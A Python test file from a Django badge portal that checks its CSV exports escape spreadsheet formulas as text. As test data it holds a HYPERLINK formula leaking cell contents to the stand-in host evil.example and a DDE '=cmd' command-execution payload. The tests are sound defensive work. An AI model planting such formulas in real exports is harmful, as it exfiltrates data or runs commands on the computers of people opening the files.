"""Spreadsheet formula injection: every CSV the portal writes shows a would-be formula as text."""

import csv
import io

import pytest
from django.urls import reverse

from apps.accounts.tests.factories import make_student
from apps.activity.selectors import activity_import_example
from apps.badges.tests.factories import BadgeFactory
from apps.core.csv_export import spreadsheet_safe, spreadsheet_text
from apps.issued_badges.models import IssuanceBatch, Source
from apps.issued_badges.services import IssueRequest, badges_issue, issued_badges_revoke

BADGE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
REASON = '=cmd|" /C calc"!A0'


@pytest.mark.parametrize("payload", [BADGE, REASON, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_is_written_as_text_and_read_back_as_sent(payload):
    assert spreadsheet_safe(payload) == f"'{payload}"
    assert spreadsheet_text(spreadsheet_safe(payload)) == payload


@pytest.mark.parametrize("value", ["Cloud Explorer", "a=b", "'quoted", "", 42, None])
def test_everything_else_is_untouched(value):
    assert spreadsheet_safe(value) == value
    if isinstance(value, str):
        assert spreadsheet_text(value) == value


def _cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return list(csv.reader(io.StringIO(body)))


def test_find_export_and_the_issuance_csv_escape_a_hostile_badge_name_and_reason(world, client):
    badge = BadgeFactory(organization=world.alpha.org, name=BADGE, manual_issuance_enabled=True)
    student = make_student(world.alpha.org, username="csv-student")
    report = badges_issue(
        IssueRequest(badge_ids=[badge.pk], recipient_ids=[student.pk], actor=world.alpha.admin,
                     source=Source.USERNAMES, organization=world.alpha.org)
    )  # fmt: skip
    issued = report.outcomes[0].issued_badge_id
    issued_badges_revoke(ids=[issued], actor=world.alpha.admin, reason=REASON)
    client.force_login(world.alpha.admin)

    rows = _cells(client.get(reverse("issued_badges:export"), {"student": "csv-student"}))
    [row] = rows[1:]
    assert f"'{BADGE}" in row and f"'{REASON}" in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in rows for cell in line)

    batch = IssuanceBatch.objects.get(pk=report.batch.pk)
    rows = _cells(client.get(reverse("issued_badges:batch_csv", args=[batch.uuid])))
    assert any(f"'{BADGE}" in line for line in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in rows for cell in line)


def test_the_activity_import_sample_stays_importable(world):
    text = activity_import_example(user=world.alpha.admin)
    assert text.splitlines()[0] == "username,kind,reference,points,occurred_at"
